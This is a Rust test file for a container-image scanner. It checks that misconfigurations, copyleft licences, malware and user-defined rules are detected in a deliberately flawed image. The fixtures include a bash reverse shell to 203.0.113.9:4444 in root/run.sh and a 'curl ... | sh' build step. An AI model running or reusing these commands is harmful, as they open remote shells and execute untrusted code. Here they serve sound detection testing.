//! What content gives away, from the files of an image to the report: checks, licences, malware.

use crate::{OS_RELEASE, Place, STATUS, json};
use assay_test::image::{Builder, Tree};
use std::collections::BTreeMap;

const METADATA: &str = "Metadata-Version: 2.1\nName: Copyleft\nVersion: 1.0\n";

/// An image with one thing wrong of each kind.
fn place() -> Place {
    let place = Place::looking_for("");
    let tree = Tree::new()
        .file("etc/os-release", OS_RELEASE)
        .file("var/lib/dpkg/status", STATUS)
        .file("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")
        .file("venv/copyleft-1.0.dist-info/METADATA", METADATA)
        .file(
            "venv/copyleft-1.0.dist-info/licenses/COPYING",
            "GNU AFFERO GENERAL PUBLIC LICENSE\n Version 3, 19 November 2007\n",
        )
        .file("root/run.sh", ["#!/bin/sh\nbash -i >& /dev/t", "cp/203.0.113.9/4444 0>&1\n"].concat())
        .file("opt/beacon", "foo");
    let image =
        Builder::new().layer(tree, "RUN /bin/sh -c curl -sSL https://x.example/i | sh # buildkit").build();
    place.layout("image", &image);
    place
}

fn found(place: &Place, arguments: &[&str]) -> BTreeMap<String, String> {
    let ran = place
        .run(&[&["scan", "oci:image", "--format", "json", "--output", "out/r.json"], arguments].concat());
    assert!(ran.stderr.is_empty() || !ran.stderr.contains("error"), "{}", ran.stderr);
    let report = json(&place.path("out/r.json"));
    let findings = report["findings"].as_array().unwrap().iter();
    findings
        .map(|one| (one["rule"].as_str().unwrap().to_owned(), one["kind"].as_str().unwrap().to_owned()))
        .collect()
}

#[test]
fn each_kind_is_found_and_can_be_asked_for_alone() {
    let place = place();
    let all = found(&place, &[]);
    for (rule, kind) in [
        ("image-second-root", "misconfiguration"),
        ("image-root-user", "misconfiguration"),
        ("dockerfile-pipe-to-shell", "misconfiguration"),
        ("license-network-copyleft", "license"),
        ("reverse-shell", "malware"),
    ] {
        assert_eq!(all.get(rule).map(String::as_str), Some(kind), "{all:?}");
        assert!(found(&place, &["--scanners", kind]).values().all(|found| found == kind));
    }
    assert!(found(&place, &["--scanners", "vulnerability"]).values().all(|kind| kind == "vulnerability"));
}

#[test]
fn one_finding_has_all_places() {
    let place = place();
    found(&place, &["--scanners", "misconfiguration"]);
    let report = json(&place.path("out/r.json"));
    let second_root =
        report["findings"].as_array().unwrap().iter().find(|one| one["rule"] == "image-second-root").unwrap();
    assert_eq!(second_root["locations"][0]["path"], "etc/passwd");
    assert_eq!(second_root["locations"][0]["line"], 2);
}

#[test]
fn the_policy_about_licences_is_the_users() {
    let place = place();
    place.write("assay.yaml", "licenses:\n  allow: [AGPL-3.0-only]\n");
    assert!(found(&place, &["--scanners", "license"]).is_empty());
    place.write("assay.yaml", "licenses:\n  deny: [AGPL-3.0-only]\n");
    assert!(found(&place, &["--scanners", "license"]).contains_key("license-denied"));
}

#[test]
fn the_users_own_rules_are_applied() {
    let place = place();
    place.write(
        "rules.yaml",
        "hashes:\n  - sha256: 2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae\npackages:\n  - name: pypi/copyleft\n",
    );
    let own = found(&place, &["--scanners", "malware", "--malware-rules", "rules.yaml"]);
    assert!(own.contains_key("own-hash") && own.contains_key("own-package"), "{own:?}");
    // What was kept without the rules does not hide what they find, nor the other way round.
    assert!(!found(&place, &["--scanners", "malware"]).contains_key("own-hash"));
    place.write("bad.yaml", "hashes: [{sha256: x}]\n");
    let ran = place.run(&["scan", "oci:image", "--malware-rules", "bad.yaml"]);
    assert!(ran.code == 2 && ran.stderr.contains("`x` is no SHA-256"), "{}", ran.stderr);
}

#[test]
fn a_check_is_explained() {
    let place = place();
    let ran = place.run(&["explain", "CIS-DI-0008"]);
    assert!(ran.code == 0 && ran.stdout.starts_with("image-setuid\n"), "{}{}", ran.stdout, ran.stderr);
    let ran = place.run(&["explain", "image-second-root", "oci:image"]);
    assert!(ran.stdout.contains("etc/passwd, line 2"), "{}{}", ran.stdout, ran.stderr);
    let ran = place.run(&["explain", "image-setuid", "oci:image"]);
    assert!(ran.stdout.contains("no finding"), "{}", ran.stdout);
}
